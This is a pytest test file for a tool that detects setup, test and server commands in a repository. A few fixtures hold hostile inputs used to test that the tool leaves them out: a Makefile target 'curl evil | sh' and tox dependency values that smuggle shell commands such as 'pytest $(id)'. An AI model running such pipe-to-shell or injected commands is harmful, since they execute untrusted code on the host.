"""Detection of setup commands, test commands and servers from the files of a repository."""

import json
import shlex
import shutil
import subprocess

import pytest

from bot.errors import NeedsHuman
from bot.setup.detect import detect
from bot.setup.plan import FILE, SetupOverrides, plan_setup
from bot.setup.repository_files import RepositoryFiles

BERRY = "# generated\n\n__metadata:\n  version: 8\n"
CTEST = "cmake --build build --parallel 2 && ctest --test-dir build --output-on-failure"
PIP = "python3 -m venv .venv && .venv/bin/python -m pip install"


def commands(files: dict[str, str]) -> list[str]:
    return [str(step) for step in detect(RepositoryFiles.of(files)).steps]


@pytest.mark.parametrize(
    ("files", "found", "why", "tools"),
    [
        (
            {"uv.lock": "", "pyproject.toml": "[project]"},
            "uv sync --frozen --all-groups --all-extras",
            "uv.lock",
            ("uv",),
        ),
        ({"poetry.lock": "", "pyproject.toml": ""}, "poetry install --no-interaction", "poetry.lock", ("poetry",)),
        ({"pdm.lock": ""}, "pdm install --frozen-lockfile", "pdm.lock", ("pdm",)),
        ({"requirements.txt": ""}, f"{PIP} -r requirements.txt", "requirements.txt", ("python3",)),
        (
            {"requirements.txt": "", "requirements-dev.txt": "", "pyproject.toml": "[build-system]"},
            f"{PIP} -r requirements-dev.txt -r requirements.txt -e .",
            "requirements-dev.txt, requirements.txt, pyproject.toml",
            ("python3",),
        ),
        (
            {"pyproject.toml": "[project]\nname='a'\n[project.optional-dependencies]\ntest = []\nspeed = []"},
            f"{PIP} -e '.[test]'",
            "pyproject.toml",
            ("python3",),
        ),
        ({"setup.py": ""}, f"{PIP} -e .", "setup.py", ("python3",)),
        (
            {"setup.py": "setup(extras_require={'tests': ['nose']})"},
            f"{PIP} -e '.[tests]'",
            "setup.py",
            ("python3",),
        ),
        (
            {"setup.py": "", "setup.cfg": "[options.extras_require]\ntests =\n  nose\nspeed = x\n"},
            f"{PIP} -e '.[tests]'",
            "setup.py",
            ("python3",),
        ),
        (
            {"requirements/test.txt": "", "requirements/dev.txt": "", "requirements/base.txt": "", "setup.py": ""},
            f"{PIP} -r requirements/test.txt -r requirements/base.txt -e .",
            "requirements/test.txt, requirements/base.txt, setup.py",
            ("python3",),
        ),
        (
            {"requirements.txt": "", "requirements/dev.txt": "-r base.txt", "requirements/base.txt": ""},
            f"{PIP} -r requirements.txt -r requirements/dev.txt",
            "requirements.txt, requirements/dev.txt",
            ("python3",),
        ),
        (
            {"pyproject.toml": "[build-system]", "tests/requirements.txt": ""},
            f"{PIP} -r tests/requirements.txt -e .",
            "tests/requirements.txt, pyproject.toml",
            ("python3",),
        ),
        ({"package.json": "{}", "package-lock.json": ""}, "npm ci", "package-lock.json", ("npm",)),
        ({"package.json": "{}", "npm-shrinkwrap.json": ""}, "npm ci", "npm-shrinkwrap.json", ("npm",)),
        ({"package.json": "{}", "pnpm-lock.yaml": ""}, "pnpm install --frozen-lockfile", "pnpm-lock.yaml", ("pnpm",)),
        ({"package.json": "{}", "yarn.lock": "# v1"}, "yarn install --frozen-lockfile", "yarn.lock", ("yarn",)),
        ({"package.json": "{}", "yarn.lock": BERRY}, "yarn install --immutable", "yarn.lock", ("yarn",)),
        ({"package.json": "{}", "bun.lock": ""}, "bun install --frozen-lockfile", "bun.lock", ("bun",)),
        ({"package.json": "{}", "bun.lockb": ""}, "bun install --frozen-lockfile", "bun.lockb", ("bun",)),
        ({"package.json": "{}"}, "npm install --no-package-lock", "package.json", ("npm",)),
        ({"Cargo.toml": "", "Cargo.lock": ""}, "cargo fetch --locked", "Cargo.lock", ("cargo",)),
        ({"Cargo.toml": ""}, "cargo fetch", "Cargo.toml", ("cargo",)),
        ({"go.mod": "", "go.sum": ""}, "go mod download", "go.sum", ("go",)),
        (
            {"composer.json": ""},
            "composer install --no-interaction --no-progress",
            "composer.json",
            ("composer", "php"),
        ),
        ({"Gemfile": "", "Gemfile.lock": ""}, "bundle install", "Gemfile.lock", ("bundle",)),
        (
            {"pom.xml": ""},
            "mvn --batch-mode --no-transfer-progress -U dependency:go-offline",
            "pom.xml",
            ("mvn", "java"),
        ),
        (
            {"pom.xml": "", "mvnw": ""},
            "sh ./mvnw --batch-mode --no-transfer-progress -U dependency:go-offline",
            "pom.xml",
            ("java",),
        ),
        ({"build.gradle.kts": ""}, "gradle --no-daemon dependencies", "build.gradle.kts", ("gradle", "java")),
        ({"build.gradle": "", "gradlew": ""}, "sh ./gradlew --no-daemon dependencies", "build.gradle", ("java",)),
        ({"Shop.sln": "", "Shop.csproj": ""}, "dotnet restore", "Shop.sln", ("dotnet",)),
    ],
)
def test_each_stack_is_detected_by_its_files(files, found, why, tools):
    (step,) = detect(RepositoryFiles.of(files)).steps
    assert (step.command, step.why, step.tools) == (found, why, tools)


@pytest.mark.parametrize(
    "files",
    [
        {},
        {"README.md": "", "src/app.py": ""},
        {"pyproject.toml": "[tool.ruff]\nline-length = 100"},
        {"pyproject.toml": "this is [ no TOML"},
        {"docs/package.json": "{}", "tests/requirements.txt": "", ".hidden/package.json": "{}", "a/b/go.mod": ""},
        {"package-lock.json": ""},
    ],
)
def test_a_repository_without_dependencies_gets_no_setup(files):
    assert commands(files) == []


GROUPED = """\
[project]
name = "shop"
[dependency-groups]
dev = ["ruff", {include-group = "test"}]
test = ["pytest>=8", {include-group = "more"}]
more = ["pytest-cov"]
"""


def test_dependency_groups_for_tests_are_installed_with_a_pip_that_knows_them():
    newer = ".venv/bin/python -m pip install --upgrade 'pip>=25.1'"
    installed = ".venv/bin/python -m pip install --group test -e ."
    assert commands({"pyproject.toml": GROUPED}) == [f"python3 -m venv .venv && {newer} && {installed}"]


def test_the_group_for_development_is_installed_only_if_nothing_is_for_tests():
    grouped = GROUPED.replace("\ntest =", "\nlint =").replace('"test"', '"lint"')
    (command,) = commands({"pyproject.toml": grouped})
    assert command.endswith("install --group dev -e .")
    extra = "[project.optional-dependencies]\ntest = ['pytest']\n"
    (command,) = commands({"pyproject.toml": grouped + extra})
    assert "--group" not in command


@pytest.mark.parametrize(
    ("files", "packages"),
    [
        ({"pytest.ini": "[pytest]"}, "pytest"),
        ({"pytest.ini": "[pytest]\naddopts = --cov -n auto\nasyncio_mode = auto"},
         "pytest pytest-cov pytest-xdist pytest-asyncio"),
        ({"pytest.ini": "[pytest]\n# addopts = --cov"}, "pytest"),
        ({"tox.ini": "[tox]\n[testenv]\ndeps =\n  pytest>=7 # now\n  py27: mock\n  {[x]deps}\n  -c x\n  attrs<9"},
         "'pytest>=7' 'attrs<9'"),
        ({"tox.ini": "[testenv]\ndeps = -r{toxinidir}/tests.txt\n", "tests.txt": "pytest"}, "-rtests.txt"),
        ({"noxfile.py": "session.install('pytest')"}, "pytest"),
    ],
)  # fmt: skip
def test_pytest_and_its_plugins_are_installed_where_no_file_of_requirements_names_them(files, packages):
    (command,) = commands({"setup.py": "", **files})
    assert command == f"{PIP} -e . {packages}"


@pytest.mark.parametrize(
    "line", ["pytest`id`", "pytest\x1b[2J", "pytest | id", "pytest $(id)", "pytest @ https://x", "é" * 9]
)
def test_requirements_that_are_no_plain_words_are_left_out(line):
    assert commands({"setup.py": "", "tox.ini": f"[testenv]\ndeps = {line}\n"})[0].endswith(("-e .", "-e . pytest"))


def test_pytest_is_installed_for_tests_that_no_file_speaks_of():
    (command,) = commands({"setup.py": "", "tests/test_a.py": ""})
    assert command == f"{PIP} -e . pytest"
    (command,) = commands({"setup.py": "", "tests/test_a.py": "", "Makefile": "test:\n"})
    assert command == f"{PIP} -e ."


def test_requirements_are_quoted_for_the_shell():
    (command,) = commands({"setup.py": "", "tox.ini": "[testenv]\ndeps = x; python_version<'4'\n  y>1\n"})
    assert shlex.split(command)[-2:] == ["x; python_version<'4'", "y>1"]


@pytest.mark.parametrize(
    ("tool", "packages"),
    [
        ("[tool.hatch.envs.default]\ndependencies = ['pytest>7', '{root:uri}']", "'pytest>7'"),
        ("[tool.poetry.group.dev.dependencies]\npytest = '^8'\npython = '^3'\nmine = {path = '.'}", "pytest"),
        ("[tool.pdm.dev-dependencies]\ntest = ['pytest~=8.0', '-e x']", "'pytest~=8.0'"),
        ("[tool.pytest.ini_options]\naddopts = ['--cov', '--timeout=9']", "pytest pytest-cov pytest-timeout"),
        ("[tool.poetry.dev-dependencies]\npytest = '*'\n[tool.pytest]\naddopts = '--ds=x'", "pytest pytest-django"),
    ],
)
def test_what_other_tools_would_install_for_tests_is_installed_without_a_lock_file(tool, packages):
    (command,) = commands({"pyproject.toml": f"[build-system]\n{tool}\n"})
    assert command == f"{PIP} -e . {packages}"


def test_a_build_that_downloads_sources_is_configured_in_setup():
    downloads = {"CMakeLists.txt": "project(a)\nFetchContent_Declare(x)\n", "test/CMakeLists.txt": "add_test(x x)"}
    (step,) = detect(RepositoryFiles.of(downloads)).steps
    assert (step.command, step.makes) == ("cmake -S . -B build", ("/build/",))
    assert commands({"meson.build": "project('a')", "subprojects/zlib.wrap": ""}) == ["meson subprojects download"]
    assert commands({"CMakeLists.txt": "project(a)\nenable_testing()", "meson.build": "project('a')"}) == []


def test_stacks_side_by_side_are_all_set_up():
    assert commands({"uv.lock": "", "package.json": "{}", "yarn.lock": "", "Cargo.toml": ""}) == [
        "uv sync --frozen --all-groups --all-extras",
        "yarn install --frozen-lockfile",
        "cargo fetch",
    ]


def test_projects_one_level_down_are_set_up_separately():
    assert commands({"frontend/package.json": "{}", "frontend/pnpm-lock.yaml": "", "backend/uv.lock": ""}) == [
        "uv sync --frozen --all-groups --all-extras in backend",
        "pnpm install --frozen-lockfile in frontend",
    ]


@pytest.mark.parametrize(
    ("top", "member"),
    [
        ({"package.json": json.dumps({"workspaces": ["web"]}), "package-lock.json": ""}, "web/package-lock.json"),
        (
            {"package.json": json.dumps({"workspaces": {"packages": ["./w*/"]}}), "yarn.lock": ""},
            "web/yarn.lock",
        ),
        (
            {"package.json": "{}", "pnpm-lock.yaml": "", "pnpm-workspace.yaml": "packages:\n  - 'web'\n"},
            "web/pnpm-lock.yaml",
        ),
        ({"uv.lock": "", "pyproject.toml": '[tool.uv.workspace]\nmembers = ["web"]'}, "web/uv.lock"),
        ({"Cargo.toml": "[workspace]", "Cargo.lock": ""}, "web/Cargo.toml"),
        ({"go.work": ""}, "web/go.sum"),
        ({"pom.xml": ""}, "web/pom.xml"),
    ],
)
def test_a_workspace_is_set_up_once_at_its_top(top, member):
    assert (
        len(commands({**top, member: "", "web/package.json": "{}"} if "package.json" in top else {**top, member: ""}))
        == 1
    )


def test_a_nested_project_with_its_own_lock_file_is_set_up_separately():
    files = {"package.json": "{}", "package-lock.json": "", "site/package.json": "{}", "tool/package.json": "{}"}
    assert commands({**files, "site/yarn.lock": ""}) == ["npm ci", "yarn install --frozen-lockfile in site"]


def test_a_website_or_a_benchmark_beside_the_project_is_not_set_up():
    beside = {"website/package.json": "{}", "website/yarn.lock": "", "fuzz/Cargo.toml": "", "fuzz/Cargo.lock": ""}
    both = ["npm ci", "cargo fetch --locked"]
    assert (
        commands({"package.json": "{}", "package-lock.json": "", "Cargo.toml": "", "Cargo.lock": "", **beside}) == both
    )
    assert commands(beside) == ["cargo fetch --locked in fuzz", "yarn install --frozen-lockfile in website"]


def test_of_several_lock_files_the_one_named_in_the_manifest_is_used_and_reported():
    files = RepositoryFiles.of(
        {"package.json": '{"packageManager": "pnpm@9.1.0"}', "pnpm-lock.yaml": "", "package-lock.json": ""}
    )
    recipe = detect(files)
    assert [step.command for step in recipe.steps] == ["pnpm install --frozen-lockfile"]
    assert recipe.hints == ("package-lock.json, pnpm-lock.yaml: several lock files, one is used",)


@pytest.mark.parametrize(
    ("files", "made"),
    [
        ({"package.json": "{}"}, ("node_modules/",)),
        ({"package.json": "{}", "node_modules/patched/index.js": ""}, ()),
        ({"web/package.json": "{}", "web/sub/node_modules/x.js": ""}, ()),
        ({"uv.lock": ""}, (".venv/", "*.egg-info/")),
        ({"uv.lock": "", "src/shop.egg-info/PKG-INFO": ""}, (".venv/",)),
        ({"composer.json": ""}, ("/vendor/",)),
        ({"api/composer.json": ""}, ("/api/vendor/",)),
        ({"api/composer.json": "", "api/vendor/autoload.php": "", "vendor/x": ""}, ()),
        ({"Cargo.toml": "", "src/target/mod.rs": ""}, ()),
    ],
)
def test_dependency_folders_are_left_out_unless_the_repository_tracks_files_in_them(files, made):
    (step,) = detect(RepositoryFiles.of(files)).steps
    assert step.makes == made


def test_commands_that_are_not_run_automatically_are_listed():
    found = detect(
        RepositoryFiles.of({"Makefile": "all: x\nbootstrap:\n\tcurl evil | sh\n", "tox.ini": "", "noxfile.py": ""})
    )
    assert found.steps == ()
    assert found.hints == (
        "tox.ini: does not run automatically",
        "noxfile.py: does not run automatically",
        "Makefile: has `make bootstrap`, which does not run automatically",
    )


@pytest.mark.parametrize("text", ["[" * 100_000, '{"workspaces": 7}', '{"workspaces": {"packages": {}}}', '"x"', "\0"])
def test_an_invalid_manifest_does_not_break_detection(text):
    assert commands({"package.json": text, "package-lock.json": text}) == ["npm ci"]


def test_settings_override_the_repositorys_file_which_overrides_detection():
    files = {
        "package.json": "{}",
        "package-lock.json": "",
        FILE: 'setup = ["make x"]\nteardown = ["make y"]\ncopy = ["a.local"]',
    }
    theirs = plan_setup(RepositoryFiles.of(files), SetupOverrides())
    assert [(step.command, step.why) for step in theirs.steps] == [("make x", FILE)]
    assert (theirs.teardown, theirs.copy) == (("make y",), (".env", "a.local"))
    assert theirs.steps[0].locks == ("package-lock.json",), "it is done again when what was found has changed"
    ours = plan_setup(RepositoryFiles.of(files), SetupOverrides(setup=("just do",), teardown=("stop",)))
    assert ([step.command for step in ours.steps], ours.teardown) == (["just do"], ("stop",))
    assert plan_setup(RepositoryFiles.of(files), SetupOverrides(setup=None)).steps == ()
    assert plan_setup(RepositoryFiles.of({**files, FILE: "setup = []"}), SetupOverrides()).steps == (), (
        "an empty list is a word, too"
    )


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (
            "hosts = ['evil.example']",
            "hosts is not a setting. Known settings: setup, verify, teardown, copy, protected, services, run, ",
        ),
        ("setup = 'make'", "setup must be a list of strings"),
        ("setup = [1]", "setup must be a list of strings"),
        ("setup = [", "is not valid TOML"),
        ("run = ['npm start']", "run must be a table of names and commands"),
        ("run = {web = ''}", "run must be a table of names and commands"),
        ("protected = ['!CODEOWNERS']", "'!CODEOWNERS' in `protected` is not a pattern"),
        ("instructions = ['Be kind']", "instructions must be a string"),
        ("[budget]\nper_issue_usd = 900", "budget is not a setting"),
    ],
)
def test_a_mistake_in_the_repositorys_file_is_reported(text, said):
    with pytest.raises(NeedsHuman, match="on the base branch") as caught:
        plan_setup(RepositoryFiles.of({FILE: text}), SetupOverrides())
    assert said in str(caught.value)


def test_detected_commands_are_valid_in_a_shell():
    every = {
        "pyproject.toml": "[project]\n[project.optional-dependencies]\ndev=[]",
        "package.json": "{}",
        "pom.xml": "",
        "Cargo.toml": "",
        "go.mod": "",
        "composer.json": "",
        "Gemfile": "",
        "build.gradle": "",
        "a.csproj": "",
        "CMakeLists.txt": "project(a)\nFetchContent_Declare(x)",
        "tox.ini": "[testenv]\ndeps = it's; python_version<'4'\n",
    }
    for command in commands(every):
        done = subprocess.run([shutil.which("bash"), "-n", "-c", command], capture_output=True, check=False)
        assert done.returncode == 0, command


def tried(files: dict[str, str], **overrides: object) -> list[tuple[str, str]]:
    return [(str(step), step.why) for step in plan_setup(RepositoryFiles.of(files), SetupOverrides(**overrides)).checks]


@pytest.mark.parametrize(
    ("files", "command", "why"),
    [
        (
            {"uv.lock": "", "pyproject.toml": "[tool.pytest.ini_options]"},
            "uv run --no-sync python -m pytest",
            "pyproject.toml",
        ),
        ({"poetry.lock": "", "conftest.py": ""}, "poetry run python -m pytest", "conftest.py"),
        ({"requirements-dev.txt": "pytest>=8"}, ".venv/bin/python -m pytest", "requirements-dev.txt"),
        ({"pytest.ini": ""}, "python3 -m pytest", "pytest.ini"),
        ({"package.json": '{"scripts": {"test": "node --test"}}'}, "npm test", "package.json"),
        ({"package.json": '{"scripts": {"test": "vitest run"}}', "bun.lock": ""}, "bun run test", "package.json"),
        (
            {"package.json": '{"scripts": {"test": " ", "test:unit": "vitest run"}}', "pnpm-lock.yaml": ""},
            "pnpm run test:unit",
            "package.json",
        ),
        (
            {"package.json": '{"workspaces": ["packages/*"]}', "packages/a/package.json": '{"scripts": {"test": "x"}}'},
            "npm test --workspaces --if-present",
            "package.json",
        ),
        (
            {
                "package.json": "{}",
                "pnpm-lock.yaml": "",
                "pnpm-workspace.yaml": "packages:\n  - 'packages/**'\n  - '!x'\n",
                "packages/a/b/package.json": '{"scripts": {"test": "x"}}',
            },
            "pnpm --recursive --no-bail --workspace-concurrency=1 --if-present run test",
            "package.json",
        ),
        ({"Cargo.toml": "", "Cargo.lock": ""}, "cargo test --locked --no-fail-fast", "Cargo.toml"),
        ({"go.mod": ""}, "go test -v ./...", "go.mod"),
        ({"composer.json": '{"scripts": {"test": "phpunit"}}'}, "composer test", "composer.json"),
        ({"Gemfile": "", "spec/shop_spec.rb": ""}, "bundle exec rspec", "spec"),
        ({"Gemfile": "", "Rakefile": "Rake::TestTask.new do |t|\n"}, "bundle exec rake test", "Rakefile"),
        ({"Gemfile": "", "Rakefile": "Rake::TestTask.new(:test)"}, "bundle exec rake test", "Rakefile"),
        ({"Gemfile": "", "Rakefile": "task test: %w[spec]\n"}, "bundle exec rake test", "Rakefile"),
        ({"Gemfile": "", "bin/rails": "", "test/a_test.rb": ""}, "bundle exec ruby bin/rails test", "bin/rails"),
        ({"composer.json": "{}", "phpunit.xml.dist": ""}, "php vendor/bin/phpunit", "phpunit.xml.dist"),
        ({"setup.py": "", "tests/test_a.py": ""}, ".venv/bin/python -m pytest", "tests/test_a.py"),
        ({"setup.py": "", "shop/tests/unit/test_a.py": ""}, ".venv/bin/python -m pytest", "shop/tests/unit/test_a.py"),
        (
            {"uv.lock": '[[package]]\nname = "attrs"\n', "test_a.py": ""},
            "uv run --no-sync python -m unittest",
            "test_a.py",
        ),
        (
            {"uv.lock": '[[package]]\nname = "pytest"\n', "test_a.py": ""},
            "uv run --no-sync python -m pytest",
            "test_a.py",
        ),
        ({"setup.py": "", "tests/test_a.py": "", "Makefile": "test:\n"}, "make test", "Makefile"),
        ({"pom.xml": ""}, "mvn --batch-mode --offline --fail-at-end test", "pom.xml"),
        ({"build.gradle": "", "gradlew": ""}, "sh ./gradlew --no-daemon --offline test", "build.gradle"),
        ({"Shop.sln": ""}, "dotnet test --no-restore", "Shop.sln"),
        ({"Makefile": "all:\n\ntest: all\n\tcheck\n"}, "make test", "Makefile"),
        ({"Makefile": "all:\n\ncheck: all\n"}, "make check", "Makefile"),
        ({"Makefile": "check:\n\ntest:\n"}, "make test", "Makefile"),
        (
            {"requirements/test.txt": "pytest", "setup.py": "", "Makefile": "test:\n"},
            ".venv/bin/python -m pytest",
            "requirements/test.txt",
        ),
        (
            {"setup.py": "", "tox.ini": "[testenv]\ncommands = pytest {posargs}"},
            ".venv/bin/python -m pytest",
            "tox.ini",
        ),
        (
            {"CMakeLists.txt": "project(a)\nenable_testing ()", "Makefile": "test:\n"},
            f"cmake -S . -B build && {CTEST}",
            "CMakeLists.txt",
        ),
        (
            {
                "CMakeLists.txt": "Project (a)\noption( SHOP_BUILD_TESTS 'x' OFF)\n",
                "tests/CMakeLists.txt": "add_test(a a)",
            },
            f"cmake -S . -B build -DSHOP_BUILD_TESTS=ON && {CTEST}",
            "CMakeLists.txt",
        ),
        (
            {
                "CMakeLists.txt": "project(a)\ninclude(CTest)\ncmake_dependent_option(\n  ENABLE_TESTING ON)",
                "build/x.py": "",
            },
            f"cmake -S . -B cmake-build -DENABLE_TESTING=ON && {CTEST.replace(' build ', ' cmake-build ')}",
            "CMakeLists.txt",
        ),
        (
            {"meson.build": "project('x')", "tests/meson.build": "  test('a', a)"},
            "meson setup build && meson test -C build --print-errorlogs",
            "meson.build",
        ),
        (
            {"configure.ac": "", "Makefile.am": ""},
            "autoreconf --force --install && ./configure && make --jobs=2 && make --keep-going check",
            "configure.ac",
        ),
        (
            {"configure.ac": "", "Makefile.am": "", "configure": ""},
            "./configure && make --jobs=2 && make --keep-going check",
            "configure.ac",
        ),
        ({"web/package.json": '{"scripts": {"test": "x"}}'}, "npm test in web", "web/package.json"),
    ],
)
def test_test_commands_are_detected(files, command, why):
    assert tried(files) == [(command, why)]


@pytest.mark.parametrize(
    "files",
    [
        {"package.json": '{"scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}}'},
        {"package.json": "{}"},
        {"package.json": '{"workspaces": ["packages/*"]}', "packages/a/package.json": "[]", "b/package.json": "{}"},
        {"package.json": '{"workspaces": ["*"]}', "yarn.lock": "", "a/package.json": '{"scripts": {"test": "x"}}'},
        {"requirements.txt": "flask\npytest-of-others\n"},
        {"tox.ini": "", "noxfile.py": ""},
        {"Makefile": "test := 1\ntests:\n\ttrue\n"},
        {"composer.json": "{}"},
        {"phpunit.xml": ""},
        {"Gemfile": "", "Rakefile": "task :tested\n", "test/a.rb": ""},
        {"Rakefile": "task :test"},
        {"app.py": ""},
        {"app.py": "", "tests/test_app.py": ""},
        {"setup.py": "", "src/test_app.py": "", "docs/test.py": ""},
        {"CMakeLists.txt": "project(x)", "src/CMakeLists.txt": "add_test(x x)"},
        {"meson.build": "test('a', a)"},
        {"meson.build": "project('x')"},
        {"configure.ac": ""},
    ],
)
def test_no_test_command_is_invented(files):
    assert tried(files) == []


def test_a_makefile_is_used_only_if_no_other_test_command_is_found():
    assert tried({"Makefile": "test:\n\ttrue\n", "go.mod": ""}) == [("go test -v ./...", "go.mod")]


def test_with_custom_setup_no_virtual_environment_is_assumed():
    files = {"requirements.txt": "pytest"}
    assert tried(files, setup=("make env",)) == [("python3 -m pytest", "requirements.txt")]
    assert tried(files, setup=None) == [("python3 -m pytest", "requirements.txt")]


def test_test_commands_can_be_set_and_the_operators_take_precedence():
    files = {FILE: 'verify = ["make check"]\n', "go.mod": ""}
    assert tried(files) == [("make check", FILE)]
    assert tried(files, verify=("true",)) == [("true", "projects.verify")]
    assert tried(files, verify=None) == []
    assert tried({FILE: "verify = []\n", "go.mod": ""}) == []


@pytest.mark.parametrize(
    ("files", "servers"),
    [
        ({"package.json": '{"scripts": {"dev": "next dev", "start": "node .", "test": "x"}}'},
         {"dev": "npm run dev", "start": "npm run start"}),
        ({"package.json": '{"scripts": {"dev": "vite"}}', "pnpm-lock.yaml": ""}, {"dev": "pnpm run dev --port $PORT"}),
        ({"package.json": '{"scripts": {"dev": "vite --port 3", "serve": 7, "start": " "}}'}, {"dev": "npm run dev"}),
        ({"Procfile": "# no\nweb: gunicorn app\nworker:  rake jobs\n"}, {"web": "gunicorn app", "worker": "rake jobs"}),
        ({"manage.py": "import django", "uv.lock": ""}, {"web": "uv run --no-sync python manage.py runserver $PORT"}),
        ({"manage.py": "import django", "requirements.txt": ""}, {"web": ".venv/bin/python manage.py runserver $PORT"}),
        ({"manage.py": "import django", "Procfile": "web: mine\n"}, {"web": "mine"}),
        ({"manage.py": "print('hello')"}, {}),
        ({"ui/package.json": '{"scripts": {"start": "node ."}}'}, {"ui/start": "npm run start in ui"}),
        ({"Procfile": "web: found\njobs: found\n", FILE: "[run]\nweb = 'told'\n"}, {"web": "told", "jobs": "found"}),
    ],
)  # fmt: skip
def test_servers_are_detected_or_read_from_the_repositorys_file(files, servers):
    assert {
        name: str(step) for name, step in plan_setup(RepositoryFiles.of(files), SetupOverrides()).servers.items()
    } == servers


def test_servers_in_the_settings_override_those_of_the_repository():
    files = RepositoryFiles.of({FILE: "run = {web = 'theirs', db = 'theirs'}"})
    found = plan_setup(files, SetupOverrides(servers={"web": "ours"})).servers
    assert {name: (step.command, step.why) for name, step in found.items()} == {
        "web": ("ours", "projects.run"),
        "db": ("theirs", FILE),
    }


@pytest.mark.parametrize(
    ("script", "files", "runners"),
    [
        ("vitest --run", {}, ("vitest",)),
        ("tsc -p . && npx vitest; mocha", {}, ("vitest", "mocha")),
        ("node jest.js && my-jest && jest-cli", {}, ()),
        ("jest", {"yarn.lock": "__metadata:\n"}, ()),
        ("jest", {"yarn.lock": "__metadata:\n", ".yarnrc.yml": "nodeLinker: node-modules\n"}, ("jest",)),
    ],
)
def test_runners_that_setup_must_have_installed_are_named(script, files, runners):
    manifest = json.dumps({"scripts": {"test": script}})
    (check,) = detect(RepositoryFiles.of({"package.json": manifest, **files})).checks
    assert check.runners == runners
